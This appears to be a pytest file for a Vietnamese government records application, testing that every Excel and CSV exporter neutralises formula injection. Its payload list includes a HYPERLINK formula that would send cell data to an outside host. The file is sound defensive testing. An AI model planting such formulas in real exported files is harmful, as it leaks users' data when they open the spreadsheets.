"""Files in and out (issue 9): no file the application writes carries a live formula from data.

Every xlsx and CSV writer is walked with records whose text fields hold formula-like text; no xlsx cell may be a
formula and no CSV field may start with a character a spreadsheet would evaluate. A guard test finds the
writers in the source, so a new one cannot be forgotten here. Files we read back ourselves round-trip: a
worklist answer file, and the CSVs the linkage engine reads. A worklist PDF survives a 1,000-character name.
"""
from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from lienthong.printing import cells

SRC = Path(__file__).resolve().parents[1] / "src" / "lienthong"

PAYLOADS = ('=HYPERLINK("http://x/?"&A1,"x")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NEGATIVE_NUMBER = re.compile(r"-[0-9]+(\.[0-9]+)?")
NEGATIVE_KW = Decimal("-3.0")  # a real number, negative: written as a number, not as text


@pytest.fixture
def hostile(db, tmp_path):
    """Six vessels of Phú Quốc with owners, a worklist, a VNFishbase export, an import with problems and a
    population extract, each record with one payload in every text field that can hold it."""
    from lienthong.fleet.models import Owner, RegistryImport, Vessel
    from lienthong.population.models import Citizen, Extract
    from lienthong.sync.models import Export, ExportLine, Worklist, WorklistItem

    wl = Worklist.objects.create(kind="commune", commune_code="31078", deadline=date(2026, 12, 8))
    export = Export.objects.create(rows=len(PAYLOADS))
    for i, p in enumerate(PAYLOADS):
        owner = Owner.objects.create(raw_name=p, full_name=p, raw_id_number=p, raw_birth_date=p, raw_address=p,
                                     address=p, phone=p, commune_code="31078", identity_status="not_found")
        vessel = Vessel.objects.create(registration_number=p, reg_key=f"KG{i}TS", name=p, home_port=p,
                                       commune_code="31078", owner=owner, engine_kw=NEGATIVE_KW if i == 0 else None)
        WorklistItem.objects.create(worklist=wl, vessel=vessel, owner=owner, problem="not_found", missing=p,
                                    answer_cccd=p[:12], answer_name=p, answer_birth_date=p[:20], answer_note=p)
        ExportLine.objects.create(export=export, vessel=vessel, registration_number=p, cccd=p[:12], full_name=p)
        Citizen.objects.create(cccd=f"0910000000{i:02d}", full_name=p, birth_date=date(1970, 1, 2), birth_year=1970,
                               gender="nam", commune_code="31078", address=p, name_folded="x", family_key="x",
                               given_folded="x")
    Extract.objects.create(file_name="POP.csv", sha256="a" * 64, rows=len(PAYLOADS))
    run = RegistryImport.objects.create(
        file_name=PAYLOADS[0], sha256="0" * 64, status="partial",
        errors=[{"row": 2 + i, "column": p, "message": p} for i, p in enumerate(PAYLOADS)],
        warnings=[{"row": 20 + i, "column": p, "message": p} for i, p in enumerate(PAYLOADS)])
    return {"worklist": wl, "export": export, "import": run, "tmp": tmp_path}


# --- the writers: (module that writes, function giving the files as [(name, bytes or text)]) ----------------
def _worklist_xlsx(ctx, client):
    from lienthong.sync import files

    return [("worklist.xlsx", files.worklist_xlsx(ctx["worklist"]))]


def _worklists_zip(ctx, client):
    from lienthong.sync import files

    with zipfile.ZipFile(io.BytesIO(files.worklists_zip([ctx["worklist"]]))) as z:
        return [(n, z.read(n)) for n in z.namelist() if not n.endswith(".pdf")]


def _export_xlsx(ctx, client):
    from lienthong.sync import files

    return [("vnfishbase.xlsx", files.export_xlsx(ctx["export"]))]


def _export_csv(ctx, client):
    from lienthong.sync import files

    return [("vnfishbase.csv", files.export_csv(ctx["export"]))]


def _export_views(ctx, client):
    pk = ctx["export"].pk
    return [(f"export.{fmt}", client.get(reverse("sync-export-file", args=[pk, fmt])).content) for fmt in ("xlsx", "csv")]


def _worklist_view(ctx, client):
    return [("worklist.xlsx", client.get(reverse("sync-worklist-file", args=[ctx["worklist"].pk, "xlsx"])).content)]


def _vessel_list_view(ctx, client):
    r = client.get(reverse("fleet-vessels-export"))
    assert r.status_code == 200
    return [("danh-sach-tau.xlsx", r.content)]


def _import_errors_view(ctx, client):
    r = client.get(reverse("fleet-import-errors-csv", args=[ctx["import"].pk]))
    assert r.status_code == 200
    return [("loi-nhap.csv", r.content)]


def _population_csv(ctx, client):
    from lienthong.sync.linking import population_csv

    return [("population.csv", population_csv(ctx["tmp"] / "work").read_bytes())]


def _registry_csv(ctx, client):
    from lienthong.sync.linking import OwnerFacts, registry_csv

    path = ctx["tmp"] / "chunk.csv"
    registry_csv(path, [OwnerFacts(i, p, p, p, p, p) for i, p in enumerate(PAYLOADS)])
    return [("chunk.csv", path.read_bytes())]


def _link_result(ctx, client):
    from lienthong.linkage.command import write_result
    from lienthong.linkage.decide import Decision

    path = ctx["tmp"] / "result.csv"
    write_result(path, [Decision(p, p, "not_found", -0.5, p) for p in PAYLOADS])
    return [("result.csv", path.read_bytes())]


def _clean_out(ctx, client):
    """`lienthong clean`'s OUT.csv: record ids, persons, reasons, duplicates and flags holding the payloads."""
    from lienthong.registries.clean import CleanRow, write_out

    path = ctx["tmp"] / "out.csv"
    write_out(path, [CleanRow(p, "husband", p, "review", -0.5, p, p, (p,)) for p in PAYLOADS])
    return [("out.csv", path.read_bytes())]


def _vms_alerts(ctx, client):
    """`lienthong vms-check`'s ALERTS.csv: vessels whose registration numbers are the payloads, each in a forbidden
    zone named with a payload."""
    import json

    from lienthong.monitoring.check import main

    t = ctx["tmp"]
    with open(t / "v.csv", "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(("registration_number", "length_m"))
        w.writerows((p, 20) for p in PAYLOADS[:4])  # "\tx" and "\rx" are both "x" once the reader trims them
    (t / "p.csv").write_text("port_code,name,latitude,longitude,radius_km\nRG,Rạch Giá,10.01,105.075,3\n",
                             encoding="utf-8")
    box = [[[104.0, 9.5], [104.2, 9.5], [104.2, 9.7], [104.0, 9.7], [104.0, 9.5]]]
    (t / "z.geojson").write_text(json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"kind": "forbidden", "code": "Z1", "name": PAYLOADS[0]},
         "geometry": {"type": "Polygon", "coordinates": box}}]}), encoding="utf-8")
    with open(t / "pos.csv", "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(("registration_number", "time", "latitude", "longitude", "speed_knots", "course_deg"))
        w.writerows((p, f"2026-11-30T0{h}:00:00+07:00", 9.6, 104.1, "", "") for p in PAYLOADS[:4] for h in (1, 2))
    assert main(["--vessels", str(t / "v.csv"), "--ports", str(t / "p.csv"), "--zones", str(t / "z.geojson"),
                 "--positions", str(t / "pos.csv"), "--out", str(t / "alerts.csv")]) == 0
    return [("alerts.csv", (t / "alerts.csv").read_bytes())]


def _campaign_exports(ctx, client):
    """A registry campaign's export (Excel and CSV): the record, its persons as recorded and as the population knows
    them, its duplicate and flags holding the payloads."""
    from lienthong.campaigns import exports
    from lienthong.campaigns.models import Campaign, Person, Record

    c = Campaign.objects.create(profile="marriage", title=PAYLOADS[0], department=PAYLOADS[1],
                                deadline=date(2026, 9, 30), file_name="x.csv", file_sha256="0" * 64)
    for i, p in enumerate(PAYLOADS):
        r = Record.objects.create(campaign=c, record_id=p, row_no=i + 2, data={"place": p}, duplicate_of=p, flags=[p])
        Person.objects.create(record=r, role="husband", name=p, birth_date=p[:20], id_number=p[:32], status="verified",
                              engine_status="verified", person_id=f"0910000000{i:02d}", reason=p)
    from lienthong.campaigns import files
    from lienthong.campaigns.models import Question

    for person in Person.objects.filter(record__campaign=c):
        Question.objects.create(person=person, commune_code="31078")
    return [("export.xlsx", exports.as_xlsx(c)[0]), ("export.csv", exports.as_csv(c)[0]),
            ("questions.xlsx", files.questions_xlsx(Question.objects.all()))]


def _board_exports(ctx, client):
    """The steering board's Excel files: units, officials and departments named with the payloads."""
    from lienthong.board import budget, exports, literacy
    from lienthong.board.models import BudgetLine
    from lienthong.campaigns.models import Campaign, Person, Record

    c = Campaign.objects.create(profile="staff", title=PAYLOADS[0], department=PAYLOADS[1],
                                deadline=date(2026, 12, 31), file_name="x.csv", file_sha256="1" * 64)
    for i, p in enumerate(PAYLOADS):
        r = Record.objects.create(campaign=c, record_id=p, row_no=i + 2, data={"unit": p, "position": p})
        Person.objects.create(record=r, role="official", name=p, birth_date=p[:20], id_number=p[:32], status="verified",
                              engine_status="verified", person_id=f"0910000000{i:02d}", reason=p)
        BudgetLine.objects.create(year=2026, department=p, department_key=f"k{i}", total=Decimal(100),
                                  planned=Decimal(2), spent=Decimal(1), file_name=p)
    data = literacy.literacy(date(2026, 12, 1))
    return [("ranking.xlsx", exports.ranking(data, date(2026, 12, 1))),
            *((f"unit{i}.xlsx", exports.unit(u, date(2026, 12, 1), True)) for i, u in enumerate(data.units)),
            ("budget.xlsx", exports.budget(budget.year(2026)))]


def _indicators_xlsx(ctx, client):
    """Agencies whose names and codes are formula-like text, in the Decision 766 workbook."""
    from lienthong.accounts.models import User
    from lienthong.onestop.indicators import compute, excel
    from lienthong.onestop.models import Agency

    for i, p in enumerate(PAYLOADS):
        Agency.objects.create(code=p, name=p, commune_code="31078" if i % 2 else "30742")
    admin = User.objects.create_user("quantri_chiso", role="admin")
    period = compute.Period("month", 2026, 12)
    return [("chi-so-766.xlsx", excel.workbook(compute.compute(admin, period, period.end)))]


def _dossier_list_view(ctx, client):
    """The one-stop desk's list export: dossiers whose applicant, owner and department hold the payloads."""
    from lienthong.accounts.models import User
    from lienthong.onestop import lifecycle
    from lienthong.onestop.models import Agency, Channel, Dossier, Procedure

    agency = Agency.objects.create(code="000.00.06.H56", name="Trung tâm", commune_code="30742")
    procedure = Procedure.objects.create(code="1.004359.H56", national_code="1.004359", name=PAYLOADS[0], field="Thủy sản",
                                         processing_days=5, prefill="vessel")
    procedure.agencies.add(agency)
    officer = User.objects.get(username="thuysan")
    for p in PAYLOADS:
        d = lifecycle.create_dossier(officer, agency=agency, procedure=procedure, channel=Channel.COUNTER,
                                     applicant=lifecycle.Applicant(cccd=p[:12], full_name=p, phone=p[:20]))
        Dossier.objects.filter(pk=d.pk).update(department=p)
    r = client.get(reverse("onestop:desk-export"))
    assert r.status_code == 200
    return [("ho-so.xlsx", r.content)]


def _catalogue_workbook(ctx, client):
    from lienthong.onestop.catalogue import write_workbook

    path = write_workbook(ctx["tmp"] / "thu-tuc.xlsx", {"Thủ tục": [["Mã thủ tục", "Tên thủ tục"], *[["1.000894", p] for p in PAYLOADS]]})
    return [("thu-tuc.xlsx", path.read_bytes())]


def _hall_stats_xlsx(ctx, client):
    """The hall's statistics workbook: services, the centre and the officers named with the payloads."""
    from datetime import datetime, timedelta

    from lienthong.accounts.models import AreaScope, User
    from lienthong.hall import services as hall
    from lienthong.hall.models import Counter, Service
    from lienthong.hall.stats import excel, figures
    from lienthong.onestop.models import Agency
    from lienthong.workdays import VN_TZ

    agency = Agency.objects.create(code="000.00.06.H56", name="Trung tâm", commune_code="30742")
    counter = Counter.objects.create(agency=agency, number=1)
    at = datetime(2026, 12, 1, 8, 0, tzinfo=VN_TZ)
    for i, p in enumerate(PAYLOADS):
        service = Service.objects.create(agency=agency, letter="ABCDEF"[i], name=p)
        officer = User.objects.create_user(f"sanh_{i}", role="centre", last_name=p)
        AreaScope.objects.create(user=officer, commune_code="30742")
        hall.open_counter(officer, counter, [service], at=at)
        hall.take_ticket(agency, service, at=at)
        ticket = hall.call_next(officer, at=at + timedelta(minutes=3))
        hall.start(officer, ticket, at=at + timedelta(minutes=4))
        hall.finish(officer, ticket, at=at + timedelta(minutes=9))
        hall.close_counter(officer, hall.current_session(officer), at=at + timedelta(minutes=10))
        at += timedelta(minutes=10)
    day = at.date()
    return [("thong-ke-sanh.xlsx", excel.workbook(figures.compute(agency, day, day), PAYLOADS[0]))]


WRITERS = {
    "indicators_xlsx": ("onestop/indicators/excel.py", _indicators_xlsx),
    "hall_stats_xlsx": ("hall/stats/excel.py", _hall_stats_xlsx),
    "dossier_list_export_view": ("onestop/desk/exports.py", _dossier_list_view),
    "worklist_xlsx": ("sync/files.py", _worklist_xlsx),
    "worklists_zip": ("sync/files.py", _worklists_zip),
    "export_xlsx": ("sync/files.py", _export_xlsx),
    "export_csv": ("sync/files.py", _export_csv),
    "sync_export_file_view": ("sync/files.py", _export_views),
    "sync_worklist_file_view": ("sync/files.py", _worklist_view),
    "vessel_list_export_view": ("fleet/exports.py", _vessel_list_view),
    "import_errors_csv_view": ("fleet/views.py", _import_errors_view),
    "population_csv": ("sync/linking.py", _population_csv),
    "registry_csv": ("sync/linking.py", _registry_csv),
    "lienthong_link_result": ("linkage/command.py", _link_result),
    "lienthong_clean_out": ("registries/clean.py", _clean_out),
    "lienthong_vms_check_alerts": ("monitoring/check.py", _vms_alerts),
    "catalogue_workbook": ("onestop/catalogue/services.py", _catalogue_workbook),
    "campaign_exports": ("campaigns/exports.py", _campaign_exports),
    "campaign_questions": ("campaigns/files.py", _campaign_exports),
    "board_exports": ("board/exports.py", _board_exports),
}
# Modules the source search finds that write no file from outside data, each with why.
NOT_EXPORTS = {
    "fleet/readers.py": "reads files; its Workbook is the reader's own dataclass",
    "demo/registry.py": "synthetic demo inputs from our own word lists, the importer's raw input by design",
    "demo/population.py": "synthetic demo population from our own word lists, the importer's raw input by design",
    "campaigns/importing.py": "the department's file rewritten for the identity engine, quoted by cells.csv_row and "
                              "read back by the engine's reader (cells.from_csv): never given to anyone",
    "demo/vms.py": "synthetic demo VMS feed and its truth from our own word lists, vms-check's raw input by design",
    "demo/marriages.py": "synthetic demo marriage registry (and the land and student ones through its writer), "
                         "`lienthong clean`'s raw input by design",
    "demo/staff.py": "synthetic demo staff register and learning-platform list, the board's raw input by design",
    "demo/budget.py": "synthetic demo finance sheet, the board's raw input by design",
}
# The shared helpers themselves.
HELPERS = {"printing/cells.py"}


def _check(name: str, content, negative_number_seen: list) -> set[str]:
    """Assert the file has no formula and no dangerous CSV field; return the payloads found in it."""
    found = set()
    if name.endswith(".xlsx"):
        wb = load_workbook(io.BytesIO(content))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", f"{name} {c.coordinate}: formula {c.value!r}"
                    if c.value in PAYLOADS:
                        found.add(c.value)
                        assert c.data_type == "s" and c.quotePrefix, f"{name} {c.coordinate}: not marked as text"
                    if c.value == NEGATIVE_KW:
                        assert c.data_type == "n"
                        negative_number_seen.append(name)
        return found
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content.lstrip("\ufeff")
    for row in csv.reader(io.StringIO(text, newline="")):
        for field in row:
            if NEGATIVE_NUMBER.fullmatch(field):
                negative_number_seen.append(name)
                continue  # a number written as a number (a negative score): not altered
            assert not field.startswith(DANGEROUS), f"{name}: field {field!r} starts with a formula character"
            if field.startswith("'") and field[1:] in PAYLOADS:
                found.add(field[1:])
    return found


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_no_file_we_write_carries_a_live_formula(writer, hostile, client_for, fisheries_user):
    _module, produce = WRITERS[writer]
    negative = []
    found = set()
    for name, content in produce(hostile, client_for(fisheries_user)):
        found |= _check(name, content, negative)
    # The payloads really reached the file (a test that finds nothing to check could not fail).
    assert found & {PAYLOADS[0], "+1", "@SUM(A1)"}, f"{writer}: no payload written"
    if writer in ("vessel_list_export_view", "lienthong_link_result", "lienthong_clean_out"):
        assert negative, "the negative number (engine power, score) is written as a number"


def _writer_modules() -> set[str]:
    pattern = re.compile(r"\bWorkbook\(|csv\.writer\(|DictWriter\(|\bwriter\(|xlsxwriter|\.to_excel\(")
    out = set()
    for path in SRC.rglob("*.py"):
        if "migrations" in path.parts:
            continue
        if pattern.search(path.read_text(encoding="utf-8")):
            out.add(path.relative_to(SRC).as_posix())
    return out


def test_every_writer_module_is_walked():
    """A module that writes xlsx or CSV (Workbook(, csv.writer, DictWriter, …) is in WRITERS or, with a reason,
    in NOT_EXPORTS: a new writer fails here until it is added to the walk above."""
    declared = {module for module, _f in WRITERS.values()}
    found = _writer_modules()
    assert found - HELPERS - set(NOT_EXPORTS) == declared, (
        f"writers not walked by this test: {sorted(found - HELPERS - set(NOT_EXPORTS) - declared)}; "
        f"declared but writing nothing: {sorted(declared - found)}")


def test_csv_quoting_round_trips():
    for value in (*PAYLOADS, "'=x", "''+1", "'", "'abc", "abc", "", "Nguyễn Văn A"):
        assert cells.from_csv(cells.to_csv(value)) == value
    assert cells.to_csv(-2) == -2 and cells.to_csv(Decimal("-2.5")) == Decimal("-2.5") and cells.to_csv(1.5) == 1.5
    assert cells.to_csv("-2") == "'-2"


# --- round trips: files we write and read back ourselves ------------------------------------------------------
def test_worklist_answer_file_round_trips(hostile):
    """The commune's answers in the worklist file come back as written, formula-like text included."""
    from lienthong.sync import files

    wl = hostile["worklist"]
    answers = {a["item"]: a for a in files.read_answers(files.worklist_xlsx(wl))}
    items = list(wl.items.order_by("id"))
    assert set(answers) == {it.pk for it in items}
    for it in items:
        if it.answer_note.strip() != it.answer_note:
            continue  # the reader trims spaces, tabs and line ends by design
        got = answers[it.pk]
        assert (got["note"], got["name"], got["cccd"]) == (it.answer_note, it.answer_name, it.answer_cccd), it.answer_note


def test_engine_reads_the_registry_csv_as_given(tmp_path):
    """The chunk CSV the sync gives `lienthong link` (text quoted) is read as the raw values would be."""
    from lienthong.linkage.prepare import REGISTRY_COLUMNS, read_registry
    from lienthong.sync.linking import OwnerFacts, registry_csv

    owners = [OwnerFacts(i, f"{p} Nguyễn Văn An", p, p, "nam", p) for i, p in enumerate(PAYLOADS)]
    quoted, raw = tmp_path / "chunk.csv", tmp_path / "raw.csv"
    registry_csv(quoted, owners)
    with open(raw, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh, quoting=csv.QUOTE_ALL)
        w.writerow(REGISTRY_COLUMNS)
        w.writerows((f.owner_id, f.name, f.id_raw, f.birth_raw, f.gender_raw, f.address_raw) for f in owners)
    assert "'=HYPERLINK" in quoted.read_text(encoding="utf-8")
    today = date(2026, 12, 1)
    assert [vars(r) for r in read_registry(quoted, today)] == [vars(r) for r in read_registry(raw, today)]
    assert [r.name for r in read_registry(quoted, today)][:2] == [f"{PAYLOADS[0]} Nguyễn Văn An", "+1 Nguyễn Văn An"]


def test_engine_prepares_the_same_population_from_the_quoted_csv(hostile, tmp_path):
    """The population CSV the sync writes (names quoted) prepares exactly as the raw names would."""
    from lienthong.linkage.engine import DuckEngine
    from lienthong.linkage.prepare import POPULATION_COLUMNS, population_parquet, population_view
    from lienthong.population.models import Citizen
    from lienthong.sync.linking import population_csv

    quoted = population_csv(tmp_path / "work")
    assert "'=HYPERLINK" in quoted.read_text(encoding="utf-8")
    raw = tmp_path / "raw.csv"
    with open(raw, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh, quoting=csv.QUOTE_ALL)
        w.writerow(POPULATION_COLUMNS)
        for row in Citizen.objects.order_by().values_list(*POPULATION_COLUMNS):
            w.writerow((*row[:3], row[3].isoformat(), *row[4:]))
    tables = []
    for path in (raw, quoted):
        eng = DuckEngine(1, "1GB", str(tmp_path))
        try:
            parquet, _converted = population_parquet(eng, path, cache_dir=tmp_path / f"cache-{path.stem}")
            population_view(eng, "pop", parquet)
            tables.append(eng.rows("SELECT * FROM pop ORDER BY uid"))
        finally:
            eng.close()
    assert len(tables[0]) == len(PAYLOADS)
    assert tables[0] == tables[1]


# --- the worklist PDF -------------------------------------------------------------------------------------------
def test_worklist_pdf_with_a_1000_character_name(hostile, client_for, fisheries_user):
    """A row taller than a page made fpdf2 refuse the document (a 500): each cell is cut at a few lines."""
    from django.db import connection

    from lienthong.fleet.models import Owner, Vessel

    wl = hostile["worklist"]
    item = wl.items.order_by("id").first()
    # 1,000 wide letters and no space to break at; PostgreSQL holds at most the field's length (255).
    long = "W" * (1000 if connection.vendor == "sqlite" else 255)
    Owner.objects.filter(pk=item.owner_id).update(raw_name=long, raw_id_number=long[:64], raw_birth_date=long[:64])
    Vessel.objects.filter(pk=item.vessel_id).update(registration_number=long[:32])
    wl.items.filter(pk=item.pk).update(missing=long[:255])
    r = client_for(fisheries_user).get(reverse("sync-worklist-file", args=[wl.pk, "pdf"]))
    assert r.status_code == 200
    assert r.content.startswith(b"%PDF")


def test_a_pdf_cell_is_cut_at_its_lines():
    from fpdf import FPDF

    from lienthong.printing import fonts
    from lienthong.sync.files import PDF_CELL_LINES, _fit

    pdf = FPDF(orientation="L", unit="mm", format="A4")
    fonts.register(pdf)
    pdf.add_page()
    pdf.set_font(fonts.FAMILY, "", 8)
    for text in ("W" * 1000, "Nguyễn Văn " * 100, "x" * 1000):
        cut = _fit(pdf, text, 44)
        assert cut.endswith("…") and text.startswith(cut[:-1])
        assert len(pdf.multi_cell(44 - 2 * pdf.c_margin, 5, cut, dry_run=True, output="LINES")) <= PDF_CELL_LINES
    assert _fit(pdf, "Nguyễn Văn An", 44) == "Nguyễn Văn An"
